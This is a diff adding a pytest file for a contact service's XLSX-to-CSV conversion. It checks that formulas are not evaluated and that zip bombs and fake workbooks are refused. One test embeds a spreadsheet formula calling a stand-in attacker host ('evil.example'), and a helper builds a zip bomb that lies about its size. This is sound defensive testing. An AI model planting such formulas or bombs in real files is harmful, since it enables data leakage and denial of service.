@@ -1,0 +1,55 @@
+"""XLSX workbooks, also hostile ones."""
+
+from __future__ import annotations
+
+import zipfile
+from datetime import date
+from pathlib import Path
+
+import pytest
+import xlsxwriter
+
+from rapport_contact.files.records import UnreadableFile
+from rapport_contact.files.workbook import as_text, check_size
+from services.contact.tests.files.streams import read
+
+
+async def test_plt_14_a_workbook_is_read_as_values_and_formulas_are_not_evaluated(tmp_path: Path) -> None:
+    source, target = tmp_path / "people.xlsx", tmp_path / "people.csv"
+    with xlsxwriter.Workbook(source) as book:
+        sheet = book.add_worksheet()
+        sheet.write_row(0, 0, ["Name", "Born", "Number", "Sum"])
+        sheet.write_row(1, 0, ["Zoë", None, 4711, ""])
+        sheet.write_datetime(1, 1, date(1980, 2, 29), book.add_format({"num_format": "yyyy-mm-dd"}))
+        sheet.write_formula(1, 3, '=WEBSERVICE("http://evil.example")', value="kept")
+    await as_text(source, target)
+    _, (only,) = await read(target.read_bytes())
+    assert only.cells == {"Name": "Zoë", "Born": "1980-02-29", "Number": "4711", "Sum": "kept"}
+
+
+def bomb(path: Path, *, honest: bool) -> Path:
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("xl/workbook.xml", "<workbook/>")
+        with archive.open("xl/worksheets/sheet1.xml", "w") as sheet:
+            for _ in range(64):
+                sheet.write(b"0" * 1024 * 1024)
+    if not honest:
+        content = bytearray(path.read_bytes())
+        entry = content.rindex(b"PK\x01\x02")
+        content[entry + 24 : entry + 28] = (1000).to_bytes(4, "little")
+        path.write_bytes(content)
+    return path
+
+
+@pytest.mark.parametrize("honest", [True, False])
+async def test_plt_14_a_zip_bomb_is_refused_also_when_it_lies_about_its_size(tmp_path: Path, honest: bool) -> None:
+    with pytest.raises(UnreadableFile) as refusal:
+        check_size(bomb(tmp_path / "bomb.xlsx", honest=honest))
+    assert refusal.value.reason in ("ZIP_BOMB", "BROKEN_WORKBOOK")
+
+
+@pytest.mark.parametrize("content", [b"PK\x03\x04 and no more", b"PK\x05\x06" + bytes(18)])
+async def test_plt_14_what_only_looks_like_a_workbook_is_refused(tmp_path: Path, content: bytes) -> None:
+    (tmp_path / "no.xlsx").write_bytes(content)
+    with pytest.raises(UnreadableFile):
+        await as_text(tmp_path / "no.xlsx", tmp_path / "no.csv")
